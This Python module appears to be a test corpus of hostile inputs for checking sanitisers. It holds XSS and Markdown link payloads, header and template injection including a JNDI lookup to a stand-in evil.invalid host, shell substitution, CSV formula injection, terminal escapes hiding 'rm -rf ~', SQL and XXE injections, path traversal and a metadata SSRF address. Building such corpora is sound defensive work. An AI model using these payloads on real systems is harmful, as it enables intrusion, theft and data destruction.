"""What people write who want it to do something: each by a name that says what it would like to be.

``marker`` is in every text that could call home or run, so that a test can look for it wherever it must not be. The
scripts of all of them do the same, see ``RAN``.
"""

from __future__ import annotations

from typing import Final

MARKER: Final = "https://evil.invalid/x"
"""Nothing answers there, and nothing ever asks."""
RAN: Final = "ran"
"""A script of this corpus that is run sets this name in its window."""
_RUN: Final = f"window.{RAN}=1"
_CALL: Final = f"fetch('{MARKER}')"

MARKUP: Final = {
    "script": f"<script>{_RUN}</script>",
    "script from elsewhere": f"<script src={MARKER}></script>",
    "script in a script": f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "script in capitals, unclosed": f"<SCRIPT/x>{_RUN}//",
    "script after a null": f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    "picture that fails": f"<img src=x onerror={_RUN}>",
    "picture that fails, slashes": f'<img/src="x"/onerror="{_RUN}">',
    "picture that fails, broken off": f'"><img src=x onerror={_RUN} x="',
    "picture that calls home": f'<img src="{MARKER}" srcset="{MARKER} 2x">',
    "drawing": f'<svg onload="{_RUN}"><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
    "drawing with a script": f"<svg><script>{_RUN}</script></svg>",
    "formulae": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></math>",
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "mutation by a comment": f"<!--><img src=x onerror={_RUN}>-->",
    "mutation by a textarea": f'<textarea><img title="</textarea><img src=x onerror={_RUN}>"></textarea>',
    "CDATA": f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    "frame": f'<iframe src="javascript:{_RUN}"></iframe>',
    "frame with a document": f'<iframe srcdoc="<script>parent.{RAN}=1</script>"></iframe>',
    "object": f'<object data="{MARKER}"></object><embed src="{MARKER}">',
    "base": f'<base href="{MARKER}">',
    "meta": f'<meta http-equiv="refresh" content="0;url={MARKER}">',
    "style": f'<style>@import "{MARKER}"; * {{ background: url({MARKER}) }}</style>',
    "style attribute": f'<p style="background:url({MARKER});position:fixed;inset:0">over everything</p>',
    "linked style": f'<link rel="stylesheet" href="{MARKER}"><link rel="preload" as="image" href="{MARKER}">',
    "form": f'<form action="{MARKER}"><input name=q autofocus onfocus={_RUN}><button>Sign in</button></form>',
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "video": f"<video><source onerror={_RUN}></video><audio src={MARKER} autoplay></audio>",
    "body": f"<body onload={_RUN} onpageshow={_RUN}>",
    "marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "an element of its own": f"<x-y onmouseover={_RUN} tabindex=1 onfocus={_RUN} autofocus>x</x-y>",
    "template": f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    "clobbering": "<form id=cookie><input name=attributes></form><a id=location></a>",
    "entities": "&lt;script&gt;&#x3c;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt; &nbsp;&zwj;&#0;",
    "the end of everything": "</p></div></body></html><!-- --><plaintext>",
    "attribute ends": f"\" onmouseover={_RUN} x='` onclick={_RUN}",
}
"""For a browser that takes text for HTML."""

LINKS: Final = {
    "javascript": f"[press](javascript:{_RUN})",
    "javascript, capitals and controls": f"[press](JaVa\tScRiPt:{_RUN}) [press](\x01javascript:{_RUN})",
    "javascript, entities": f"[press](&#106;avascript&colon;{_RUN}) [press](javascript&#58;{_RUN})",
    "javascript, escaped": f"[press](<javascript:{_RUN}>) [press](\\javascript:{_RUN})",
    "javascript, a reference": f"[press][1]\n\n[1]: javascript:{_RUN}",
    "javascript, as an address": f"<javascript:{_RUN}>",
    "vbscript": "[press](vbscript:msgbox)",
    "data": f"[press](data:text/html;base64,PHNjcmlwdD4) [press](data:text/html,<script>{_RUN}</script>)",
    "file": "[press](file:///etc/passwd) [press](\\\\host\\share) [press](blob:x) [press](about:blank)",
    "without a scheme": "[press](//evil.invalid/x) [press](/v1/me) [press](?x) [press](#x)",
    "a title that ends": f'[press](https://a.test "\\" onmouseover={_RUN} x=\\"")',
    "an address that ends": f'[press](https://a.test/"onmouseover={_RUN}) [press](https://a.test/%22%3E%3Cscript%3E)',
    "a name within": "[press](https://user:secret@evil.invalid/) [https://bank.test](https://evil.invalid/)",
    "picture": f"![see]({MARKER}) ![see](javascript:{_RUN}) [![see]({MARKER})]({MARKER})",
    "picture, a reference": f"![see][1]\n\n[1]: {MARKER}",
    "a script between ticks": f"`<script>{_RUN}</script>`\n\n```<script>{_RUN}\n<script>{_RUN}</script>\n```",
    "a script in a quote": f"> <script>{_RUN}</script>\n> - <img src=x onerror={_RUN}>",
    "a script in a link": f"[<script>{_RUN}</script>](https://a.test) [<img src=x onerror={_RUN}>](https://a.test)",
    "a table": f"|a|b|\n|-|-|\n|<script>{_RUN}</script>|![x]({MARKER})|",
}
"""For what makes Markdown into HTML."""

HEADERS: Final = {
    "one more header": "Ada\r\nBcc: everybody@evil.invalid",
    "a body of its own": "Ada\r\n\r\n<h1>You have won</h1>",
    "bare ends of lines": "Ada\nX-Evil: 1\rX-Worse: 2",
    "ends of lines by Unicode": "Ada\u2028X-Evil: 1\u2029X-Worse: 2\x85X-Worst: 3\x0bX: 4\x0cX: 5",
    "folded": "Ada\r\n X-Evil: 1\r\n\tX-Worse: 2",
    "encoded": "=?utf-8?q?Ada=0D=0ABcc:_everybody=40evil.invalid?=",
    "percents": "Ada%0d%0aSet-Cookie:%20a=b",
    "an address": '"Ada" <everybody@evil.invalid>, x@evil.invalid',
    "a part of its own": "--=_boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_boundary--",
    "a calendar's": "Ada\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nATTACH:https://evil.invalid/x\r\nEND:VALARM",
    "a calendar's, escaped": "Ada\\nATTENDEE:mailto:x@evil.invalid\\, x\\; y\\",
    "a calendar's parameters": 'Ada";ALTREP="https://evil.invalid/x":x',
}
"""For mail, HTTP and calendars, whose lines mean something."""

TEMPLATES: Final = {
    "braces": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% debug %} {{constructor.constructor('x')()}}",
    "format": "{0} {} {facts[at]} {0.__class__.__mro__} %s %n %(x)s %%",
    "shell": "$(id) `id` ; id | id && id > /tmp/x",
    "a lookup": "${jndi:ldap://evil.invalid/x} ${env:SECRET} {{secret}}",
    "dollars": "$& $1 $$ $` \\1 \\g<0>",
}
"""For what fills in templates."""

FORMULAE: Final = {
    "link": '=HYPERLINK("https://evil.invalid/x","Your payout")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": '\t=WEBSERVICE("https://evil.invalid/x")',
    "a cell that ends": '","=1+1","\r\n=1+1',
    "full width": "\uff1d1+1",
    "DDE": '=DDE("cmd";"/C calc";"x")',
}
"""For a spreadsheet that opens CSV."""

CONTROLS: Final = {
    "null": "Ada\x00Lovelace\x00",
    "colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[H\x1b[1A",
    "a title and a link": "\x1b]0;owned\x07 \x1b]8;;https://evil.invalid/x\x1b\\press\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "in one byte": "\x9b31mred \x9d0;owned\x9c \x90q\x9c",
    "backspaces": "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08ls",
    "back to the beginning": "worthless\rpriceless",
    "rich": "[bold red]x[/] [link=https://evil.invalid/x]press[/link] [/not-open] :skull:",
    "bell": "\x07\x07\x07",
    "deleted": "a\x7fb\x80c",
}
"""For a terminal."""

UNICODE: Final = {
    "overrides": "user\u202egnp.exe \u202dabc\u202c \u2066x\u2069 \u2067y\u2069 \u2068z\u2069",
    "marks": "a\u200eb\u200fc\u061cd",
    "zero width": "ad\u200bmin ad\u2060min ad\ufeffmin a\u00addmin",
    "joiners": "ad\u200cm\u200din",
    "look-alikes": "\u0430dm\u0456n \uff41\uff44\uff4d\uff49\uff4e \U0001d41a\U0001d41d\U0001d426\U0001d422n adm\u0131",
    "marks upon marks": "Z" + "\u0310\u0317\u0321\u0334\u035c" * 20 + "algo",
    "half a character": "\ud83d x \udc00",
    "tags": "x" + "".join(chr(0xE0000 + ord(each)) for each in "hidden"),
    "private": "\ue000\uf8ff\U0010fffd",
    "none at all": "\ufdd0\uffff\U0001ffff",
    "grows": "\ufdfa\u0130\ufb03 \u00df",
    "blank": "\u3164\u2800\u115f\u00a0\u3000",
    "variations": "a\ufe0fb\U000e0100c",
}
"""For eyes."""

QUERIES: Final = {
    "SQL": "' OR '1'='1'; DROP TABLE ledger;-- \" UNION SELECT * FROM people",
    "operators": '{"$gt": ""} {"$where": "sleep(1000)"} [$ne]=1',
    "DynamoDB": "attribute_exists(pk) OR #pk = :pk AND begins_with(sk, :x)",
    "our own keys": "usr_x#profile conversation message#0000000001 pk sk where inbox#usr_x",
    "LDAP and XPath": "*)(uid=*))(|(uid=* ' or count(/*)>0 or '",
    "prototypes": '__proto__ constructor {"__proto__": {"admin": true}} __class__',
    "XML": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "numbers": "NaN Infinity -0 1e999 0x41 1_000 \u0661\u0662\u0663",
    "patterns": ".*.*.*.*=.* (a+)+$ [[:alpha:]] \\d{9999}",
}
"""For what is asked of a storage."""

PATHS: Final = {
    "up": "../../../../etc/passwd",
    "up, encoded": "..%2f..%2fetc%2fpasswd %2e%2e/ ..%c0%af ....//",
    "up, Windows": "..\\..\\windows\\win.ini C:\\x \\\\?\\x CON",
    "from the root": "/etc/passwd /proc/self/environ",
    "a null at the end": "picture.png\x00.html",
    "another bucket": "uploads/usr_x/upl_x s3://x/y",
    "an address within": "http://169.254.169.254/latest/meta-data/ file:///etc/passwd",
}
"""For what opens files."""

DEEP: Final = {
    "brackets": "[" * 4_000,
    "links within": "[a](" * 1_000,
    "pictures within": "![" * 1_000 + "](x)" * 500,
    "quotes": ">" * 4_000,
    "quotes, each on its line": "\n".join(">" * depth + " x" for depth in range(1, 85)),
    "lists": "".join("  " * depth + "- x\n" for depth in range(60)),
    "stars": "*" * 4_000,
    "stars, open and shut": "*a **a " * 570,
    "ticks": "`" * 1_999 + "x" + "`" * 2_000,
    "ticks, ever more": " ".join("`" * each for each in range(1, 88)),
    "underscores": "_a__b" * 800,
    "angles": "<" * 4_000,
    "tags": "<b>" * 1_300,
    "comments": "<!--" * 1_000,
    "ampersands": "&" * 4_000,
    "entities": "&#" * 2_000,
    "backslashes": "\\" * 4_000,
    "references": "".join(f"[{each}]: x\n" for each in range(400)),
    "a table": "|" * 4_000,
    "empty lines": "\n" * 3_999 + "x",
    "tabs": "\t" * 3_999 + "x",
    "braces": '{"a":' * 800,
}
"""For a parser that goes down into everything: each within 4,000 characters."""

GROUPS: Final = {
    "markup": MARKUP,
    "links": LINKS,
    "headers": HEADERS,
    "templates": TEMPLATES,
    "formulae": FORMULAE,
    "controls": CONTROLS,
    "unicode": UNICODE,
    "queries": QUERIES,
    "paths": PATHS,
    "deep": DEEP,
}
ALL: Final = {f"{group}: {name}": text for group, texts in GROUPS.items() for name, text in texts.items()}
SHORT: Final = {name: text for name, text in ALL.items() if len(text) <= 200 and "half a" not in name}
"""What fits into a name or a title, and into JSON."""
